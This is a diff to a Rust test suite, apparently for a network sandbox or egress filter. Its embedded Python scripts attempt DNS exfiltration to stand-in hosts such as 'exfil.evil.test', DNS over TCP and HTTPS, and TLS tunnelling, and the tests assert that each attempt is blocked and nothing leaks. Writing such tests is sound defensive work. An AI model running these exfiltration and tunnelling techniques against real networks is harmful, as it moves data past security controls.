@@ -26,8 +26,8 @@ fn c01_no_question_for_a_name_goes_on() -> Res<()> {
         return Ok(());
     };
     let script = r#"
-print({ask(server, f"exfil-{kind}.evil.test", kind) for server in ["8.8.8.8", "11.0.0.53", "127.0.0.1"] for kind in [5, 6, 15, 16, 28 + 37, 33, 12, 255, 99]})
-print(ask("8.8.8.8", "exfil.evil.test", 1))
+print({ask(server, f"exfil-{kind}.evil.test", kind) for server in ["8.8.8.8", "11.0.0.53", "127.0.0.1"] for kind in [5, 6, 15, 16, 65, 33, 12, 99]})
+print(ask("8.8.8.8", "exfil.evil.test", 1), ask("8.8.8.8", "exfil-any.evil.test", 255)[0])
 print(socket.gethostbyname("exfil-data.a.wild.test").startswith("198.1"), socket.gethostbyname("exfil-data.cdn.test").startswith("198.1"))
 data = query("exfil-tcp.evil.test", 16)
 s = tcp("8.8.8.8", 53)
@@ -42,7 +42,7 @@ tell(https, "dns.google", "/dns-query?dns=c01", at="8.8.8.8")
     assert_eq!(
         told[1..],
         [
-            "(0, 1)",
+            "(0, 1) 0",
             "True True",
             "True",
             "ConnectionRefusedError",
@@ -50,13 +50,7 @@ tell(https, "dns.google", "/dns-query?dns=c01", at="8.8.8.8")
             "403 no_rule"
         ]
     );
-    let empty: Vec<&str> = told[0].trim_matches(['{', '}']).split("), ").collect();
-    assert!(
-        empty
-            .iter()
-            .all(|answer| answer.trim_end_matches(')').ends_with(", 0")),
-        "{told:?}"
-    );
+    assert_eq!(told[0], "{(0, 0)}");
     fake.denied("c01", "no_rule")?;
     assert!(
         fake.net
@@ -394,7 +388,9 @@ from attack import *
 tunnel, kept = tls("tunnel.test"), tls("cdn.test")
 for s, host in [(tunnel, "tunnel.test"), (kept, "cdn.test")]:
     s.sendall(f"GET /c21 HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
-    s.recv(4096)
+    answer = b""
+    while not answer.endswith(b"ok /c21\n"):
+        answer += s.recv(4096)
 print("open", flush=True)
 # Until it is ended from outside.
 tunnel.settimeout(60)
@@ -447,7 +443,9 @@ for place in ["127.0.0.1:8378", "localhost:8378", "127.0.0.1:443", "[::1]:8378",
 tell(http, "127.0.0.1:8378", "/c23", at="127.0.0.1")
 "#,
     )?;
-    assert_eq!(told, ["403 no_rule"; 6]);
+    assert_eq!(told[..5], ["403 no_rule"; 5]);
+    // Its port is not the one that was dialled.
+    assert_eq!(told[5], "421 mismatch");
     fake.denied("c23", "no_rule")?;
     fake.nothing_leaked();
     Ok(())
@@ -512,7 +510,8 @@ fn c24_a_word_is_good_for_the_request_that_was_asked_and_no_other() -> Res<()> {
         .iter()
         .filter(|event| event.to_string().contains("approval_used"))
         .count();
-    assert_eq!(used, 1);
+    // A yes and two noes, each used up by one request.
+    assert_eq!(used, 3);
     Ok(())
 }
 
